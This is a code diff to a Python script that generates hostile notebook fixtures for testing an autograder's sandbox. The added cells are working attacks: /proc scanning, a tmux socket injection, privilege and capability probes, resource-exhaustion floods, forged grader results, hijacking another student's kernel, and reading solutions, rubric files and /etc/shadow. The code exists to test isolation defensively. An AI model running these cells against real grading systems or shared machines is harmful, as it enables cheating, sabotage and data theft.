@@ -1,18 +1,22 @@
-"""Write the hostile-submission fixtures of issue 8 under ``fixtures/hostile/``.
+"""Write the hostile-submission fixtures under ``fixtures/hostile/``.
 
     python tools/make_hostile.py           # (re)write the committed fixtures
     python tools/make_hostile.py --check   # exit 1 if a committed fixture is stale
 
 Each scenario is the correct Q2 notebook (the fastest to grade) with hostile code appended as
-its last cell, so that whatever the engine contains, the rest of the notebook can still score.
-Fixtures too large to commit (10,000 cells, a zip bomb) are made by the tests in tmp_path
-with the functions below.
+its last cell, so that whatever the engine contains, the rest of the notebook can still score;
+the scenarios of ``BLANK_CELLS`` start from the blank template instead (what they would steal
+is the score itself). A cell that reports what it found prints one line ``TAG {json}`` that
+the tests read back from the executed notebook. Values the tests choose (a marker, a port, a
+socket path) are injected as notebook parameters. Fixtures too large to commit (10,000 cells,
+a zip bomb) are made by the tests in tmp_path with the functions below.
 """
 
 from __future__ import annotations
 
 import argparse
 import sys
+import textwrap
 import zipfile
 from pathlib import Path
 
@@ -20,6 +24,7 @@ import nbformat
 
 REPO_ROOT = Path(__file__).resolve().parents[1]
 SOURCE = REPO_ROOT / "fixtures" / "submissions" / "all_correct" / "q2_initialization.ipynb"
+BLANK = REPO_ROOT / "fixtures" / "submissions" / "blank" / "q2_initialization.ipynb"
 HOSTILE = REPO_ROOT / "fixtures" / "hostile"
 NOTEBOOK = "q2_initialization.ipynb"
 FORK_MARKER = "dlgrade-hostile-fork-marker"
@@ -128,9 +133,359 @@ CELLS: dict[str, str] = {
 }
 """Scenario name -> the hostile cell appended to the correct Q2 notebook."""
 
+CELLS.update(
+    {
+        name: textwrap.dedent(cell).lstrip()
+        for name, cell in {
+            "proc_scan": """
+                import json
+                from pathlib import Path
 
-def hostile_notebook(cell: str) -> nbformat.NotebookNode:
-    nb = nbformat.read(str(SOURCE), as_version=4)
+                # Another process on the machine (a classmate's kernel, a TA's shell), seen
+                # through /proc: its command line, its environment, its working folder.
+                found = {"pids": 0, "cmdline": False, "environ": False, "cwd_files": []}
+                for entry in Path("/proc").iterdir():
+                    if not entry.name.isdigit():
+                        continue
+                    found["pids"] += 1
+                    for what in ("cmdline", "environ"):
+                        try:
+                            if MARKER.encode() in (entry / what).read_bytes():
+                                found[what] = True
+                        except OSError:
+                            pass
+                    try:
+                        names = [p.name for p in (entry / "cwd").iterdir()]
+                        found["cwd_files"] += [n for n in names if MARKER in n]
+                    except OSError:
+                        pass
+                print("PROCSCAN " + json.dumps(found))
+            """,
+            "unix_sockets": """
+                import json
+                import os
+                import socket
+                import stat
+
+                # Every unix socket this kernel can find or guess: the paths it was given (a
+                # TA's tmux server), an abstract name, and what a walk of the file system finds.
+                candidates = set(SOCKETS)
+                for top in ("/tmp", "/run", "/var/run", "/dev/shm", "/home", "/root"):
+                    for folder, _dirs, files in os.walk(top):
+                        for name in files:
+                            path = os.path.join(folder, name)
+                            try:
+                                if stat.S_ISSOCK(os.lstat(path).st_mode):
+                                    candidates.add(path)
+                            except OSError:
+                                pass
+                connected = []
+                for address in sorted(candidates) + ["\\0" + ABSTRACT]:
+                    with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as client:
+                        client.settimeout(1)
+                        try:
+                            client.connect(address)
+                            client.sendall(b"send-keys 'touch /tmp/pwned' Enter\\n")
+                            connected.append(address)
+                        except OSError:
+                            pass
+                found = {"tried": len(candidates) + 1, "connected": connected}
+                print("SOCKETS " + json.dumps(found))
+            """,
+            "capabilities": """
+                import ctypes
+                import json
+                import os
+                from pathlib import Path
+
+                # Root powers a kernel must not have, even inside its own namespaces.
+                tried = {}
+
+
+                def attempt(name, action):
+                    try:
+                        action()
+                        tried[name] = "allowed"
+                    except Exception as exc:
+                        tried[name] = type(exc).__name__
+
+
+                def write(path, text):
+                    with open(path, "w") as fh:
+                        fh.write(text)
+
+
+                libc = ctypes.CDLL(None, use_errno=True)
+
+
+                def mount():
+                    if libc.mount(b"none", b"/tmp", b"tmpfs", 0, None) != 0:
+                        raise PermissionError(ctypes.get_errno())
+
+
+                def new_user_namespace():
+                    if libc.unshare(0x10000000) != 0:
+                        raise PermissionError(ctypes.get_errno())
+
+
+                attempt("nice", lambda: os.nice(-20))
+                fifo = os.sched_param(50)
+                attempt("sched_fifo", lambda: os.sched_setscheduler(0, os.SCHED_FIFO, fifo))
+                attempt("oom_score_adj", lambda: write("/proc/self/oom_score_adj", "-1000"))
+                attempt("setuid_root", lambda: os.setuid(0))
+                attempt("chroot", lambda: os.chroot("/"))
+                attempt("mount", mount)
+                attempt("setsid", os.setsid)  # a session of its own: its own CPU share
+                keyring = libc.syscall(250, 0, -3, 0)  # keyctl(GET_KEYRING_ID, session)
+                tried["keyctl"] = "allowed" if keyring >= 0 else "refused"
+                own = str(os.getpid())
+                others = [p for p in Path("/proc").iterdir() if p.name.isdigit() and p.name != own]
+                adjusted = 0
+                for entry in others:
+                    try:
+                        write(entry / "oom_score_adj", "1000")
+                        adjusted += 1
+                    except OSError:
+                        pass
+                tried["others_oom_adjusted"] = adjusted
+                status = Path("/proc/self/status").read_text().splitlines()
+                tried["CapEff"] = [s.split()[1] for s in status if s.startswith("CapEff")][0]
+                print("CAPS " + json.dumps(tried))
+            """,
+            "ipc_leftovers": f"""
+                import ctypes
+                import os
+                import subprocess
+                import sys
+
+                # Things that would outlive the kernel on the host: a SysV shared memory segment,
+                # files in /dev/shm and /tmp, and a daemon that leaves the kernel's session.
+                libc = ctypes.CDLL(None, use_errno=True)
+                print("SHM", libc.shmget(SHM_KEY, 1 << 20, 0o1000 | 0o666))
+                for folder in ("/dev/shm", "/tmp"):
+                    try:
+                        with open(os.path.join(folder, MARKER), "w") as fh:
+                            fh.write("left behind")
+                    except OSError as exc:
+                        print(folder, exc)
+                daemon = "import os, time\\nif os.fork():\\n    os._exit(0)\\n"
+                daemon += "os.setsid()\\ntime.sleep(3600)"
+                command = [sys.executable, "-c", daemon, {FORK_MARKER!r}]
+                subprocess.Popen(command, start_new_session=True)
+            """,
+            "memory_children": f"""
+                import subprocess
+                import sys
+
+                # Five children of 400 MB each: every one is under the kernel's memory limit of
+                # 1 GB, together they are twice it.
+                child = (
+                    "import time\\n"
+                    "block = bytearray(400 << 20)\\n"
+                    "for i in range(0, len(block), 4096):\\n"
+                    "    block[i] = 1\\n"
+                    "print('held', flush=True)\\n"
+                    "time.sleep(30)\\n"
+                )
+                command = [sys.executable, "-c", child, {FORK_MARKER!r}]
+                kids = [
+                    subprocess.Popen(command, stdout=subprocess.PIPE, text=True) for _ in range(5)
+                ]
+                held = sum(kid.stdout.readline().strip() == "held" for kid in kids)
+                print("MEMCHILDREN", held)
+                for kid in kids:
+                    kid.kill()
+            """,
+            "memfd_hoard": """
+                import os
+                import time
+
+                # Memory in anonymous files (memfd_create): no process's RSS shows it, and
+                # four of 400 MB are well past a 1 GB limit. Held two seconds before saying so.
+                block = b"\\0" * (1 << 20)
+                fds = []
+                for _ in range(4):
+                    fd = os.memfd_create("hoard")
+                    for _ in range(400):
+                        os.write(fd, block)
+                    fds.append(fd)
+                time.sleep(2)
+                print("HOARDED", len(fds))
+            """,
+            "disk_many_files": """
+                import os
+
+                # Many files, each far under the file-size limit, together past the disk budget.
+                block = b"\\0" * (1 << 20)
+                written = 0
+                try:
+                    for folder in (".", "/tmp"):
+                        for i in range(256):
+                            with open(os.path.join(folder, f"fill-{i}.bin"), "wb") as fh:
+                                fh.write(block)
+                            written += 1
+                finally:
+                    print("WROTE", written)
+            """,
+            "forged_probe_results": """
+                import inspect
+                import zipfile
+
+
+                # When the grader's probe calls this function, find the probe's own context on
+                # the stack and make every later write of its results file a hostile one: a
+                # JSON nested 200,000 deep, an .npy header claiming 8 TiB, a thousand files.
+                def hostile_results(path):
+                    header = "{'descr': '<f8', 'fortran_order': False, 'shape': (1099511627776,), }"
+                    size = len(header).to_bytes(2, "little")
+                    npy = b"\\x93NUMPY\\x01\\x00" + size + header.encode()
+                    with zipfile.ZipFile(path, "w", zipfile.ZIP_STORED) as archive:
+                        archive.writestr("formulas.json", "[" * 200_000 + "]" * 200_000)
+                        archive.writestr("probe_errors.json", "[" * 200_000 + "]" * 200_000)
+                        archive.writestr("probe_done.json", "{}")
+                        for i in range(1000):
+                            archive.writestr(f"junk-{i}.json", "1")
+                        archive.writestr("state.npz", npy)
+
+
+                def activation_variance(n_in, sigma2, v2):
+                    for frame in inspect.stack():
+                        ctx = frame.frame.f_locals.get("ctx")
+                        if ctx is not None and hasattr(ctx, "export"):
+                            archive = ctx.export.get("archive")
+                            ctx._pack = lambda: hostile_results(archive)
+                            hostile_results(archive)
+                    return n_in * sigma2 * v2
+            """,
+            "huge_error": """
+                # A 50 MB exception message: an error is always recorded, but never whole.
+                raise ValueError("x" * (50 << 20))
+            """,
+            "reply_flood": """
+                # A 50 MB reply on the request channel itself (a "next input" payload): past the
+                # size limit, ZMQ drops it with its connection, which the grader must restore.
+                get_ipython().set_next_input("x" * (50 << 20))
+            """,
+            "multiframe_flood": """
+                # One output message of 40 binary frames, 30 MB each: every frame under a
+                # per-frame limit, 1.2 GB together.
+                kernel = get_ipython().kernel
+                blob = memoryview(b"x" * (30 << 20))
+                content = {"name": "stdout", "text": "hi"}
+                parent = kernel.get_parent()
+                frames = [blob] * 40
+                kernel.session.send(kernel.iopub_socket, "stream", content, parent, buffers=frames)
+            """,
+            "malformed_message": """
+                # Raw bytes on the output channel that are no Jupyter message at all.
+                get_ipython().kernel.iopub_socket.send_multipart([b"not-a-jupyter-message"])
+                print("still here")
+            """,
+            "error_loop": """
+                # Two thousand error displays of 120 kB each from one cell: only its first error
+                # is the cell's; the rest count against the output cap like any output.
+                for _ in range(2000):
+                    get_ipython()._showtraceback(ValueError, "x" * 4000, ["E" * 2000] * 60)
+            """,
+            "display_updates": """
+                from IPython.display import display
+
+                # One small display, then updated 300 times with a megabyte each: the updates
+                # replace earlier output in place, and must count against the cap too.
+                handle = display("small", display_id=True)
+                for _ in range(300):
+                    handle.update("y" * (1 << 20))
+            """,
+            "comm_flood": """
+                from ipykernel.comm import Comm
+
+                # Widget traffic (comm messages), 200 MB of it: nothing the grader keeps.
+                comm = Comm(target_name="dlgrade-flood")
+                for _ in range(200):
+                    comm.send(data={"blob": "z" * (1 << 20)})
+            """,
+            "attack_classmate": """
+                import glob
+                import json
+                import os
+
+                from jupyter_client import BlockingKernelClient
+
+                # Another student's kernel of the same batch, found through its connection
+                # file, driven to redefine that student's answer with a wrong one.
+                patterns = ["/tmp/**/*.json", "/run/**/*.json", "/dev/shm/**/*.json"]
+                patterns.append("/proc/*/root/tmp/**/*.json")
+                files = {p for pattern in patterns for p in glob.glob(pattern, recursive=True)}
+                hijacked = []
+                for path in sorted(files):
+                    try:
+                        with open(path) as fh:
+                            info = json.load(fh)
+                        if "shell_port" not in info:
+                            continue
+                        client = BlockingKernelClient(connection_file=path)
+                        client.load_connection_file()
+                        client.start_channels()
+                        client.wait_for_ready(timeout=3)
+                        client.execute("def xavier_variance(n_in, n_out):\\n    return 0.0\\n")
+                        hijacked.append(path)
+                    except Exception:
+                        pass
+                print("CLASSMATE " + json.dumps({"files": len(files), "hijacked": hijacked}))
+            """,
+            "victim_waits": """
+                import time
+
+                # A classmate's kernel that stays alive while another kernel of the batch runs.
+                time.sleep(VICTIM_SECONDS)
+            """,
+        }.items()
+    }
+)
+
+BLANK_CELLS: dict[str, str] = {
+    "steal_solutions": textwrap.dedent(
+        """
+        import json
+        import os
+        from pathlib import Path
+
+        # A blank notebook that goes looking for the answers: the fixtures' complete solutions,
+        # the reference, the rubric and thresholds (the project lies above the data the grader
+        # points it to), the grader's results, other folders. Found, the solution is run here.
+        project = Path(DATA_ROOT).resolve().parents[1]
+        targets = {
+            "solution": project / "fixtures/submissions/all_correct/q2_initialization.ipynb",
+            "reference": project / "reference" / "q2_init.py",
+            "rubric": project / "graders" / "config" / "rubric.toml",
+            "thresholds": project / "graders" / "config" / "thresholds.toml",
+            "git": project / ".git" / "HEAD",
+            "shadow": Path("/etc/shadow"),
+            "results": Path(OUT_GUESS),
+            **{f"secret{i}": Path(p) for i, p in enumerate(SECRETS)},
+        }
+        found = {}
+        for key, path in targets.items():
+            try:
+                found[key] = sorted(os.listdir(path)) if path.is_dir() else path.read_text()[:200]
+            except (OSError, UnicodeDecodeError) as exc:
+                found[key] = type(exc).__name__
+        print("LEAKCHECK " + json.dumps(found))
+        try:
+            solution = json.loads(targets["solution"].read_text())
+        except OSError:
+            solution = {"cells": []}
+        for cell in solution["cells"]:
+            if cell["cell_type"] == "code" and "parameters" not in cell["metadata"].get("tags", []):
+                exec("".join(cell["source"]), globals())
+        """
+    ).lstrip(),
+}
+"""Scenario name -> the hostile cell appended to the blank Q2 notebook."""
+
+
+def hostile_notebook(cell: str, base: Path = SOURCE) -> nbformat.NotebookNode:
+    nb = nbformat.read(str(base), as_version=4)
     nb.cells.append(nbformat.v4.new_code_cell(cell, id="hostile-cell"))
     return nb
 
@@ -166,6 +521,8 @@ def _files() -> dict[Path, str]:
     files: dict[Path, str] = {}
     for name, cell in CELLS.items():
         files[HOSTILE / name / NOTEBOOK] = nbformat.writes(hostile_notebook(cell)) + "\n"
+    for name, cell in BLANK_CELLS.items():
+        files[HOSTILE / name / NOTEBOOK] = nbformat.writes(hostile_notebook(cell, BLANK)) + "\n"
     good = SOURCE.read_text(encoding="utf-8")
     files[HOSTILE / "load_not_json" / NOTEBOOK] = "this is not a notebook {\n"
     files[HOSTILE / "load_empty" / NOTEBOOK] = ""
